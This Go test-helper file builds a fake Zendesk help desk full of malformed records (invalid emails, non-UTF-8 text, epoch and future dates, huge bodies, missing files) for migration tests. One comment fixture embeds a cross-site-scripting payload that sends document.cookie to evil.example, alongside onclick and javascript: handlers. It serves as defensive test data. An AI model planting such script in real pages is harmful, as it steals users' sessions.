package zendesktest

import (
	"fmt"
	"math/rand/v2"
	"net/url"
	"slices"
	"strings"
	"time"
)

// Bad data: what a help desk should not hold and real ones do. AddHostile
// adds such records to a help desk, so that tests can prove a migration
// accounts for every record however bad it is: each kind below is one way a
// record can be wrong, or merely hard.
const (
	// BadInvalidEmail: an end user whose email is not an address.
	BadInvalidEmail = "invalid email"
	// BadDuplicateEmail: an end user with the email of another (once
	// differently cased, once the same).
	BadDuplicateEmail = "duplicate email"
	// BadInvalidPhone: an end user whose phone is not a number.
	BadInvalidPhone = "invalid phone"
	// BadInvalidUTF8: a user's name, a ticket's subject, a comment's body
	// holding bytes that are not UTF-8 (Latin-1 text, as old mail is).
	BadInvalidUTF8 = "invalid UTF-8"
	// BadBigBody: a comment with a body of HostileOptions.BigBody bytes.
	BadBigBody = "big body"
	// BadHTML: a comment whose HTML holds scripts, an event handler and
	// inline images (one a data: URL, one an inline attachment).
	BadHTML = "HTML with scripts and inline images"
	// BadAgentRequester: a ticket an agent requested (an outbound ticket).
	BadAgentRequester = "agent as requester"
	// BadUnknownAuthor: a comment whose author is no user of the help desk.
	BadUnknownAuthor = "unknown author"
	// BadUnknownTicket: a comment whose ticket the help desk does not list
	// (HelpDesk.Unlisted).
	BadUnknownTicket = "unknown ticket"
	// BadLongTicket: a ticket with HostileOptions.LongComments comments.
	BadLongTicket = "long ticket"
	// BadManyAttachments: a comment with 12 attachments.
	BadManyAttachments = "many attachments"
	// BadMissingFile: an attachment whose file answers 404
	// (HelpDesk.MissingFiles).
	BadMissingFile = "missing file"
	// BadEpoch: a record dated at the Unix epoch (1970-01-01T00:00:00Z),
	// a help desk's way of saying it does not know when.
	BadEpoch = "epoch 0"
	// BadFuture: a record dated in the future.
	BadFuture = "future date"
	// BadEmptySubject: a ticket without a subject.
	BadEmptySubject = "empty subject"
	// BadRTLEmoji: right-to-left text (Hebrew, Arabic) and emoji (ZWJ
	// sequences, flags, skin tones) in names, subjects and bodies.
	BadRTLEmoji = "right-to-left and emoji text"
	// BadForeignFile: an attachment whose file is on another host
	// (HostileOptions.ForeignFiles).
	BadForeignFile = "file on another host"
)

// BadRecord is one record AddHostile added, and what is bad about it.
type BadRecord struct {
	// Kind is one of the Bad constants.
	Kind string
	// Stream is the record's canonical stream: users, organizations,
	// tickets, comments or attachments.
	Stream string
	ID     int64
	// TicketID is a comment's or an attachment's ticket.
	TicketID int64
}

// Hostile lists what AddHostile added.
type Hostile struct {
	Records []BadRecord
}

// Of returns the records of one kind.
func (h Hostile) Of(kind string) []BadRecord {
	var out []BadRecord
	for _, r := range h.Records {
		if r.Kind == kind {
			out = append(out, r)
		}
	}
	return out
}

// Count counts the records of each kind.
func (h Hostile) Count() map[string]int {
	n := map[string]int{}
	for _, r := range h.Records {
		n[r.Kind]++
	}
	return n
}

// HostileOptions size the bad data. A zero field takes its default; the
// defaults are the sizes, which tests may shrink for a quick run.
type HostileOptions struct {
	// Seed picks the bad data, as GenerateOptions.Seed does.
	Seed uint64
	// LongComments is the number of comments of the long ticket (default
	// 5,000).
	LongComments int
	// BigBody is the size in bytes of each big comment's body (default 5
	// MB).
	BigBody int
	// ForeignFiles, when set, is the base URL of another host that one
	// attachment's content_url points to (ForeignFiles + "/files/...").
	ForeignFiles string
}

func (o HostileOptions) withDefaults() HostileOptions {
	if o.LongComments <= 0 {
		o.LongComments = 5000
	}
	if o.BigBody <= 0 {
		o.BigBody = 5 << 20
	}
	o.ForeignFiles = strings.TrimSuffix(o.ForeignFiles, "/")
	return o
}

// InvalidByte returns the rune that stands for byte b (0x80 to 0xff) in a
// help desk's text: a Server writes it as that single byte, which is not
// UTF-8 on its own, so that a help desk saved as JSON (always UTF-8) can
// hold text that is not. Runes from U+10FF80 to U+10FFFF (private use) are
// taken for this.
func InvalidByte(b byte) rune {
	if b < 0x80 {
		panic(fmt.Sprintf("zendesktest: byte %#x is UTF-8 on its own", b))
	}
	return invalidBase + rune(b-0x80)
}

const invalidBase = 0x10FF80

// DecodedText is text as a JSON reader gets it from a Server: each byte
// that InvalidByte stands for becomes U+FFFD, the replacement character.
func DecodedText(s string) string {
	return strings.Map(func(r rune) rune {
		if r >= invalidBase && r <= 0x10FFFF {
			return '\uFFFD'
		}
		return r
	}, s)
}

// latin1 writes s, in which every rune is below U+0100, as Latin-1 would:
// its non-ASCII characters become the bytes InvalidByte stands for.
func latin1(s string) string {
	return strings.Map(func(r rune) rune {
		if r >= 0x80 && r < 0x100 {
			return InvalidByte(byte(r))
		}
		return r
	}, s)
}

// The epoch and a date in the future, as bad data has them.
var (
	epoch  = time.Unix(0, 0).UTC()
	future = time.Date(2099, 12, 31, 23, 59, 0, 0, time.UTC)
)

// hostile holds one AddHostile call's state.
type hostile struct {
	o    HostileOptions
	rng  *rand.Rand
	hd   *HelpDesk
	used map[int64]bool
	// lastID is the newest id given: ids grow, as Zendesk's do, so that
	// records of the same second sort in the order they were made.
	lastID int64
	out    Hostile
	// at is the next update's time: the bad records were imported, or
	// edited, after everything else the help desk holds, a second apart,
	// so that the exports list them after it.
	at time.Time
	// agents and endUsers are the help desk's, before any was added.
	agents, endUsers []*User
}

// AddHostile adds bad records to hd (a generated help desk, with agents and
// end users) and returns them: users, an organization, tickets with their
// conversations and histories, comments of a ticket that only the ticket
// events export knows (hd.Unlisted), and files that are gone
// (hd.MissingFiles). Every kind of BadRecord is added at least once. The
// same hd and options give the same records.
//
// The bad records' own dates are what they are (the epoch, the future),
// but their updates happened after everything else in hd, so that the
// incremental exports serve them as Zendesk serves records imported with
// such dates.
func AddHostile(hd *HelpDesk, opts HostileOptions) Hostile {
	o := opts.withDefaults()
	h := &hostile{o: o, rng: rand.New(rand.NewPCG(o.Seed, 0x686f7374696c65)), hd: hd, used: map[int64]bool{}}
	var latest time.Time
	see := func(t time.Time) {
		if t.After(latest) {
			latest = t
		}
	}
	for _, u := range hd.Users {
		h.used[u.ID] = true
		see(u.UpdatedAt)
	}
	for _, org := range hd.Organizations {
		h.used[org.ID] = true
		see(org.UpdatedAt)
	}
	for _, t := range append(slices.Clone(hd.Tickets), hd.Unlisted...) {
		h.used[t.ID] = true
		see(t.UpdatedAt)
		for _, c := range t.Comments {
			h.used[c.ID], h.used[c.AuditID] = true, true
			for _, a := range c.Attachments {
				h.used[a.ID] = true
			}
		}
		for _, a := range t.Audits {
			h.used[a.ID] = true
			for _, ev := range a.Events {
				h.used[ev.ID] = true
			}
		}
	}
	h.at = latest.Add(time.Minute).Truncate(time.Second)
	// Past the generator's ids (13 to 14 digits, from the times of records).
	h.lastID = 20_000_000_000_000
	for i := range hd.Users {
		if hd.Users[i].IsAgent() {
			h.agents = append(h.agents, &hd.Users[i])
		} else if hd.Users[i].Active && !hd.Users[i].Suspended {
			h.endUsers = append(h.endUsers, &hd.Users[i])
		}
	}
	if len(h.agents) == 0 || len(h.endUsers) == 0 {
		panic("zendesktest: AddHostile needs a help desk with agents and end users")
	}
	h.add()
	return h.out
}

// id returns an id no record of the help desk has, greater than the
// last one it returned.
func (h *hostile) id() int64 {
	for {
		h.lastID += 1 + h.rng.Int64N(1000)
		if !h.used[h.lastID] {
			h.used[h.lastID] = true
			return h.lastID
		}
	}
}

// next returns the time of the next update.
func (h *hostile) next() time.Time {
	t := h.at
	h.at = h.at.Add(time.Second)
	return t
}

func (h *hostile) note(kind, stream string, id, ticketID int64) {
	h.out.Records = append(h.out.Records, BadRecord{Kind: kind, Stream: stream, ID: id, TicketID: ticketID})
}

// user adds an end user.
func (h *hostile) user(name, email string, created time.Time) *User {
	updated := h.next()
	u := User{
		ID: h.id(), Name: name, CreatedAt: created, UpdatedAt: updated, TimeZone: "UTC", IANATimeZone: "Etc/UTC",
		LocaleID: 1, Locale: "en-US", Role: RoleEndUser, Verified: true, Tags: []string{}, Active: true,
		TicketRestriction: ptr("requested"), RestrictedAgent: true, TwoFactorAuthEnabled: ptr(false),
		UserFields: map[string]any{"plan": nil, "account_number": nil},
	}
	if email != "" {
		u.Email = ptr(email)
	}
	h.hd.Users = append(h.hd.Users, u)
	return &h.hd.Users[len(h.hd.Users)-1]
}

// commentSpec is one comment of a ticket to add.
type commentSpec struct {
	author  int64
	public  bool
	text    string // plain text, paragraphs apart by blank lines
	html    string // the HTML body, when not made from text
	created time.Time
	files   []Attachment
}

// ticket adds a ticket (to hd.Tickets, or with unlisted to hd.Unlisted)
// requested by requester with the comments, each added by an update of
// its own after everything else; a comment's own date is its created, or
// the update's.
func (h *hostile) ticket(subject string, requester int64, created time.Time, status string, comments []commentSpec, unlisted bool) *Ticket {
	var id int64
	if unlisted {
		id = h.id()
	} else {
		id = int64(len(h.hd.Tickets)) + 1
		for h.hd.Ticket(id) != nil || h.used[id] {
			id++
		}
		h.used[id] = true
	}
	t := Ticket{
		ID: id, Via: Via{Channel: "api", Source: ViaSource{From: map[string]any{}, To: map[string]any{}}},
		CreatedAt: created, Subject: subject, RawSubject: subject, Status: status,
		RequesterID: requester, SubmitterID: requester, CollaboratorIDs: []int64{}, FollowerIDs: []int64{},
		EmailCCIDs: []int64{}, IsPublic: true, Tags: []string{"bad_data"}, CustomFields: []CustomFieldValue{},
		Fields: []CustomFieldValue{}, SharingAgreementIDs: []int64{}, FollowupIDs: []int64{}, AllowAttachments: true,
	}
	for i, spec := range comments {
		at := h.next()
		c := Comment{
			ID: h.id(), Type: "Comment", AuthorID: spec.author, Public: spec.public, AuditID: h.id(), Via: t.Via,
			Metadata: CommentMeta{System: map[string]any{}, Custom: map[string]any{}}, CreatedAt: spec.created,
			Attachments: spec.files,
		}
		if c.CreatedAt.IsZero() {
			c.CreatedAt = at
		}
		if c.Attachments == nil {
			c.Attachments = []Attachment{}
		}
		c.Body, c.PlainBody, c.HTMLBody = bodies(strings.Split(spec.text, "\n\n"))
		if spec.html != "" {
			c.HTMLBody = spec.html
		}
		a := Audit{ID: c.AuditID, CreatedAt: at, AuthorID: spec.author, Metadata: c.Metadata, Via: t.Via, Events: []AuditEvent{CommentEvent(c.ID)}}
		if i == 0 {
			a.Events = append(a.Events,
				CreateEvent(h.id(), "subject", subject),
				CreateEvent(h.id(), "requester_id", IDValue(&requester)),
				CreateEvent(h.id(), "status", status),
				CreateEvent(h.id(), "tags", t.Tags))
			t.Description = c.PlainBody
		}
		t.Comments = append(t.Comments, c)
		if err := t.AddAudit(a); err != nil {
			panic(fmt.Sprintf("zendesktest: a bad ticket's update: %v", err))
		}
	}
	t.GeneratedTimestamp = t.UpdatedAt.Unix()
	if unlisted {
		h.hd.Unlisted = append(h.hd.Unlisted, t)
		return &h.hd.Unlisted[len(h.hd.Unlisted)-1]
	}
	h.hd.Tickets = append(h.hd.Tickets, t)
	return &h.hd.Tickets[len(h.hd.Tickets)-1]
}

// file is an attachment on the help desk's own host.
func (h *hostile) file(name, contentType string, size int64, inline bool) Attachment {
	return Attachment{
		ID: h.id(), FileName: name, ContentType: contentType, Size: size, Inline: inline, Thumbnails: []Attachment{},
		ContentURL: "/attachments/token/" + h.token() + "/?name=" + url.QueryEscape(name),
	}
}

func (h *hostile) token() string {
	const alphabet = "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789"
	b := make([]byte, 25)
	for i := range b {
		b[i] = alphabet[h.rng.IntN(len(alphabet))]
	}
	return string(b)
}

// bigText is n bytes of text, in paragraphs, some of it not ASCII.
func bigText(n int) string {
	const para = "Our nightly export has been failing since Tuesday. The log says the same thing every time — " +
		"„Verbindung zurückgesetzt“ — and then the job stops. Attached is everything it wrote; sorry it's long.\n\n"
	var b strings.Builder
	b.Grow(n + len(para))
	for b.Len() < n {
		b.WriteString(para)
	}
	s := b.String()[:n]
	// Cut at a rune's start, and not inside the paragraph break.
	for len(s) > 0 && (s[len(s)-1]&0xc0 == 0x80 || s[len(s)-1] >= 0xc0 || s[len(s)-1] == '\n') {
		s = s[:len(s)-1]
	}
	return s
}

// The texts the bad records are written with.
const (
	rtlSubject = "שלום, ההזמנה שלי לא הגיעה 📦 — مرحبا، لم يصل طلبي 👋🏽"
	rtlBody    = "مرحبا فريق الدعم،\n\nطلبت رقم ٤٥٦٧ ولم يصل بعد. ‏אפשר לבדוק? 🙏🏾\n\n" +
		"Family: 👩‍👩‍👧‍👦, flags: 🇮🇱 🇪🇬 🇯🇵, combining: e\u0301, and a right-to-left mark \u200f here."
	rtlReply = "שלום! בדקנו: החבילה תגיע מחר 🚚✨"
)

func (h *hostile) add() {
	hd := h.hd
	// Copies: adding users moves hd.Users, which h.endUsers and h.agents
	// point into.
	customer := ptr(*h.endUsers[h.rng.IntN(len(h.endUsers))])
	agent := ptr(*h.agents[0]) // the owner: an admin in every sandbox
	other := ptr(*h.agents[len(h.agents)-1])

	// Users.
	rtlOrg := Organization{
		ID: h.id(), Name: "شركة النور 🌟 בע״מ", CreatedAt: epoch, UpdatedAt: h.next(),
		DomainNames: []string{"alnoor.example"}, Tags: []string{}, OrganizationFields: map[string]any{"region": "EMEA", "tier": "gold"},
	}
	hd.Organizations = append(hd.Organizations, rtlOrg)
	h.note(BadRTLEmoji, "organizations", rtlOrg.ID, 0)
	h.note(BadEpoch, "organizations", rtlOrg.ID, 0)

	var invalid []*User
	for _, e := range []string{"jane.doe@@mail.example", "no-at-sign.example", "two words@mail.example"} {
		u := h.user("Invalid Email "+fmt.Sprint(len(invalid)+1), e, h.next())
		invalid = append(invalid, u)
		h.note(BadInvalidEmail, "users", u.ID, 0)
	}
	var dups []*User
	for i, e := range []string{strings.ToUpper((*customer.Email)[:1]) + (*customer.Email)[1:], *customer.Email} {
		u := h.user(fmt.Sprintf("%s (duplicate %d)", customer.Name, i+1), e, h.next())
		dups = append(dups, u)
		h.note(BadDuplicateEmail, "users", u.ID, 0)
	}
	var phones []*User
	for i, p := range []string{"call me after 5pm", "+1 555", "+999 1234 5678", "0000000000000000000000"} {
		u := h.user(fmt.Sprintf("Phone Trouble %d", i+1), fmt.Sprintf("phone.trouble%d@mail.example", i+1), h.next())
		u.Phone = ptr(p)
		phones = append(phones, u)
		h.note(BadInvalidPhone, "users", u.ID, 0)
	}
	latin := h.user(latin1("Renée Müller"), "renee.mueller@mail.example", h.next())
	h.note(BadInvalidUTF8, "users", latin.ID, 0)
	rtl := h.user("نور الهدى 🌙", "nour@alnoor.example", h.next())
	rtl.OrganizationID = ptr(rtlOrg.ID)
	h.note(BadRTLEmoji, "users", rtl.ID, 0)
	old := h.user("Since Forever", "since.forever@mail.example", epoch)
	h.note(BadEpoch, "users", old.ID, 0)
	later := h.user("Not Yet Born", "not.yet@mail.example", future)
	h.note(BadFuture, "users", later.ID, 0)
	// From here on, the added users by id: appending to hd.Users moved the
	// ones the pointers above point to.
	invalidIDs, dupIDs, phoneIDs := ids(invalid), ids(dups), ids(phones)
	latinID, rtlID, oldID, laterID := latin.ID, rtl.ID, old.ID, later.ID
	say := func(text string) commentSpec { return commentSpec{author: customer.ID, public: true, text: text} }
	reply := func(text string) commentSpec { return commentSpec{author: agent.ID, public: true, text: text} }

	// The requesters with bad emails, duplicate emails and bad phones each
	// ask something.
	for _, id := range append(append(slices.Clone(invalidIDs), dupIDs...), phoneIDs...) {
		t := h.ticket("A question from a hard case", id, h.at, StatusOpen,
			[]commentSpec{{author: id, public: true, text: "Hello,\n\nI have a question about my invoice."}, reply("Happy to help: which invoice?")}, false)
		h.note(kindOfUser(h.out, id), "tickets", t.ID, 0)
	}

	// Text that is not UTF-8.
	t := h.ticket(latin1("Café crème: la facture n° 12 est fausse"), latinID, h.at, StatusOpen, []commentSpec{
		{author: latinID, public: true, text: latin1("Bonjour,\n\nla facture de décembre compte deux fois la crème brûlée. Merci d'avance !")},
		reply("Thanks, we'll correct it."),
	}, false)
	h.note(BadInvalidUTF8, "tickets", t.ID, 0)
	h.note(BadInvalidUTF8, "comments", t.Comments[0].ID, t.ID)

	// Right to left, and emoji; a comment by someone the help desk does
	// not know.
	ghost := h.id()
	t = h.ticket(rtlSubject, rtlID, h.at, StatusSolved, []commentSpec{
		{author: rtlID, public: true, text: rtlBody},
		reply(rtlReply),
		{author: ghost, public: true, text: "Forwarded from our old system: the customer called about this too."},
		{author: rtlID, public: true, text: "תודה רבה! 🎉"},
	}, false)
	h.note(BadRTLEmoji, "tickets", t.ID, 0)
	h.note(BadRTLEmoji, "comments", t.Comments[0].ID, t.ID)
	h.note(BadRTLEmoji, "comments", t.Comments[1].ID, t.ID)
	h.note(BadUnknownAuthor, "comments", t.Comments[2].ID, t.ID)

	// Big bodies: the requester's opening and an agent's reply.
	big := bigText(h.o.BigBody)
	t = h.ticket("Nightly export fails (full log inside)", customer.ID, h.at, StatusPending, []commentSpec{
		say(big), {author: agent.ID, public: false, text: big}, reply("We are looking into the log."),
	}, false)
	h.note(BadBigBody, "comments", t.Comments[0].ID, t.ID)
	h.note(BadBigBody, "comments", t.Comments[1].ID, t.ID)

	// HTML with scripts, an event handler and inline images: a data: URL
	// and an inline attachment.
	shot := h.file("screenshot.png", "image/png", 48_213, true)
	htmlBody := `<div class="zd-comment" dir="auto"><p dir="auto">Here is what I see:</p>` +
		`<script>document.location='https://evil.example/?c='+document.cookie</script>` +
		`<p onclick="alert(1)">Click <a href="javascript:alert(2)">here</a> for details.</p>` +
		`<p><img src="data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==" alt="pixel">` +
		`<img src="` + shot.ContentURL + `" alt="screenshot"></p><style>p{display:none}</style></div>`
	t = h.ticket("The dashboard shows a blank page", customer.ID, h.at, StatusOpen, []commentSpec{
		say("Hello,\n\nthe dashboard is blank since the update."),
		reply("Could you send a screenshot?"),
		{author: customer.ID, public: true, text: "Here is what I see: Click here for details.", html: htmlBody, files: []Attachment{shot}},
	}, false)
	h.note(BadHTML, "comments", t.Comments[2].ID, t.ID)

	// Agents as requesters: one with an Intercom admin in the sandboxes,
	// one without.
	for _, a := range []*User{agent, other} {
		t = h.ticket("Outbound: your renewal is due", a.ID, h.at, StatusPending, []commentSpec{
			{author: a.ID, public: true, text: "Hi,\n\nyour plan renews next month; reply to this ticket with any question."},
		}, false)
		h.note(BadAgentRequester, "tickets", t.ID, 0)
	}

	// Comments of a ticket the help desk does not list.
	t = h.ticket("A ticket nobody can list", customer.ID, h.at, StatusOpen, []commentSpec{
		say("This ticket's comments come without it."), reply("Indeed."),
	}, true)
	for _, c := range t.Comments {
		h.note(BadUnknownTicket, "comments", c.ID, t.ID)
	}

	// A long ticket.
	long := make([]commentSpec, h.o.LongComments)
	for i := range long {
		if i%2 == 0 {
			long[i] = say(fmt.Sprintf("Update %d from our side: the sync ran again.", i+1))
		} else {
			long[i] = reply(fmt.Sprintf("Noted (%d).", i+1))
		}
	}
	t = h.ticket("Daily sync status (long running)", customer.ID, h.at, StatusOpen, long, false)
	h.note(BadLongTicket, "tickets", t.ID, 0)

	// Twelve files on one comment, and files that are gone or elsewhere.
	var files []Attachment
	for i := range 12 {
		files = append(files, h.file(fmt.Sprintf("scan-%02d.pdf", i+1), "application/pdf", int64(10_000+i*731), false))
	}
	gone := h.file("contract-signed.pdf", "application/pdf", 88_001, false)
	hd.MissingFiles = append(hd.MissingFiles, gone.ContentURL)
	specs := []commentSpec{
		say("Hello,\n\nhere are the scans you asked for."),
		{author: customer.ID, public: true, text: "All twelve pages.", files: files},
		reply("Thanks, and the signed contract?"),
		{author: customer.ID, public: true, text: "Here it is.", files: []Attachment{gone}},
	}
	if h.o.ForeignFiles != "" {
		foreign := h.file("invoice-copy.pdf", "application/pdf", 21_337, false)
		foreign.ContentURL = h.o.ForeignFiles + "/files/" + h.token() + "/invoice-copy.pdf"
		specs = append(specs, commentSpec{author: customer.ID, public: true, text: "And the invoice, from our file server.", files: []Attachment{foreign}})
	}
	t = h.ticket("Scans for the contract", customer.ID, h.at, StatusOpen, specs, false)
	h.note(BadManyAttachments, "comments", t.Comments[1].ID, t.ID)
	for _, a := range t.Comments[1].Attachments {
		h.note(BadManyAttachments, "attachments", a.ID, t.ID)
	}
	h.note(BadMissingFile, "attachments", t.Comments[3].Attachments[0].ID, t.ID)
	if h.o.ForeignFiles != "" {
		h.note(BadForeignFile, "attachments", t.Comments[4].Attachments[0].ID, t.ID)
	}

	// Dates: at the epoch and in the future, for tickets, comments and
	// the users and organization above.
	t = h.ticket("Imported without a date", oldID, epoch, StatusClosed, []commentSpec{
		{author: oldID, public: true, text: "From the old system, undated.", created: epoch},
		{author: agent.ID, public: true, text: "Answered back then.", created: epoch},
	}, false)
	h.note(BadEpoch, "tickets", t.ID, 0)
	for _, c := range t.Comments {
		h.note(BadEpoch, "comments", c.ID, t.ID)
	}
	t = h.ticket("Scheduled maintenance notice", laterID, future, StatusOpen, []commentSpec{
		{author: laterID, public: true, text: "Dated by a clock that runs ahead.", created: future},
		{author: agent.ID, public: false, text: "Their clock is wrong; leave it.", created: future.Add(time.Minute)},
	}, false)
	h.note(BadFuture, "tickets", t.ID, 0)
	for _, c := range t.Comments {
		h.note(BadFuture, "comments", c.ID, t.ID)
	}

	// Empty subjects: one opened by its requester, one by an agent on
	// their behalf.
	t = h.ticket("", customer.ID, h.at, StatusOpen, []commentSpec{say("(no subject) My order arrived damaged.")}, false)
	h.note(BadEmptySubject, "tickets", t.ID, 0)
	t = h.ticket("", customer.ID, h.at, StatusOpen, []commentSpec{reply("We called you about your order; opening this ticket to follow up.")}, false)
	h.note(BadEmptySubject, "tickets", t.ID, 0)
}

// kindOfUser is the kind under which user id was noted.
func kindOfUser(h Hostile, id int64) string {
	for _, r := range h.Records {
		if r.Stream == "users" && r.ID == id {
			return r.Kind
		}
	}
	return ""
}

func ids(us []*User) []int64 {
	out := make([]int64, len(us))
	for i, u := range us {
		out[i] = u.ID
	}
	return out
}
